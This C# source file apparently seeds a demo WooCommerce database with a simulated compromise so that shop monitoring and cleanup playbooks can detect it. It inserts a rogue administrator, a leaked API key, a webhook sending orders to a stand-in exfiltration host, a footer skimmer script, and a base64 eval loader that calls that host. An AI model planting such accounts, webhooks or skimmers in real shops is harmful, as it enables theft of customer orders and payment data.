using System.Security.Cryptography;
using System.Text;
using CaseManagement.Shops.Model;
using CaseManagement.Shops.Php;
using MySqlConnector;

namespace CaseManagement.ShopGeneration;

/// <summary>
/// An attacker's footprint in a generated WooCommerce shop, for the demo (build/tools/DemoShop): a rogue administrator created two
/// days before, an API key she holds, a webhook sending every new order to the exfiltration host, a skimmer script in a footer
/// option, and a nulled plugin whose licence-bypass loader sits in an option (eval of base64 text, as nulled plugins' loaders do).
/// Shop monitoring flags it on its first pass and the checkout-skimmer playbook finds and fixes it (compromisedAdmin
/// <see cref="Admin"/>, exfiltrationHost <see cref="ExfiltrationHost"/>); the plugin-compromise playbook deactivates <see cref="NulledPlugin"/>.
/// </summary>
public static class PlantedAttack
{
    public const string Admin = "wp-support";
    public const string ExfiltrationHost = "cdn-analytics.example";
    public const string NulledPlugin = "seo-booster-pro/seo-booster-pro.php";
    public const string SkimmerOption = "footer_scripts";
    public const string LoaderOption = "seo_booster_pro_license";
    public const string LeakedKey = "ck_9b2e4d6f8a0c1e3b5d7f9a1c3e5b7d9f1a3c5e7b";

    /// <summary>Plants the attack once: a shop that already has the rogue account is left as it is (containment may have locked her since).</summary>
    /// <returns>True when it planted, false when the shop had it already.</returns>
    public static async Task<bool> PlantAsync(ShopConnectionSettings shop, DateTimeOffset now, CancellationToken ct)
    {
        if (shop.Platform != ShopPlatform.WooCommerce)
        {
            throw new ArgumentException("the planted attack is written for WooCommerce shops", nameof(shop));
        }

        var p = shop.TablePrefix;
        await using var connection = new MySqlConnection(shop.ConnectionString);
        await connection.OpenAsync(ct);
        await using var transaction = await connection.BeginTransactionAsync(ct);
        async Task<object?> Run(string sql, params (string Name, object? Value)[] parameters)
        {
            await using var command = new MySqlCommand(sql, connection, transaction);
            foreach (var (name, value) in parameters)
            {
                command.Parameters.AddWithValue(name, value);
            }

            return await command.ExecuteScalarAsync(ct);
        }

        if (await Run($"SELECT COUNT(*) FROM `{p}users` WHERE user_login = @login", ("@login", Admin)) is long and > 0)
        {
            return false;
        }

        var planted = now.AddDays(-2).UtcDateTime;
        await Run($"""
            INSERT INTO `{p}users` (user_login, user_pass, user_nicename, user_email, user_registered, display_name)
            VALUES (@login, '$wp$2y$10$Qn1cR0gu3Adm1nHa5hXXXu', @login, 'support@wp-helpdesk.example', @at, 'WP Support')
            """, ("@login", Admin), ("@at", planted));
        var id = Convert.ToInt64(await Run($"SELECT ID FROM `{p}users` WHERE user_login = @login", ("@login", Admin)), System.Globalization.CultureInfo.InvariantCulture);
        await Run($"INSERT INTO `{p}usermeta` (user_id, meta_key, meta_value) VALUES (@id, @caps, @admin), (@id, @level, '10')",
            ("@id", id), ("@caps", $"{p}capabilities"), ("@admin", PhpSerializer.Serialize(PhpArray.Map(("administrator", true)))), ("@level", $"{p}user_level"));
        await Run($"""
            INSERT INTO `{p}woocommerce_api_keys` (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
            VALUES (@id, 'Helpdesk sync', 'read_write', @hash, 'cs_6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d', @truncated)
            """, ("@id", id), ("@hash", Convert.ToHexStringLower(HMACSHA256.HashData(Encoding.UTF8.GetBytes("wc-api"), Encoding.UTF8.GetBytes(LeakedKey)))),
            ("@truncated", LeakedKey[^7..]));
        await Run($"""
            INSERT INTO `{p}wc_webhooks` (status, name, user_id, delivery_url, secret, topic, date_created, date_created_gmt, api_version)
            VALUES ('active', 'Order sync', @id, @url, 'whsec-planted', 'order.created', @at, @at, 3)
            """, ("@id", id), ("@url", $"https://{ExfiltrationHost}/collect"), ("@at", planted));
        await Run($"""
            INSERT INTO `{p}options` (option_name, option_value, autoload) VALUES
              (@skimmer, @script, 'yes'),
              (@loader, @eval, 'yes')
            """, ("@skimmer", SkimmerOption), ("@script", $"<script src=\"https://{ExfiltrationHost}/c.js\" async></script>"),
            ("@loader", LoaderOption), ("@eval", $"eval(atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes($"fetch('https://{ExfiltrationHost}/l?s='+location.host)"))}'))"));
        await Run($"UPDATE `{p}options` SET option_value = @plugins WHERE option_name = 'active_plugins'",
            ("@plugins", PhpSerializer.Serialize(PhpArray.List("woocommerce/woocommerce.php", NulledPlugin))));
        await transaction.CommitAsync(ct);
        return true;
    }
}
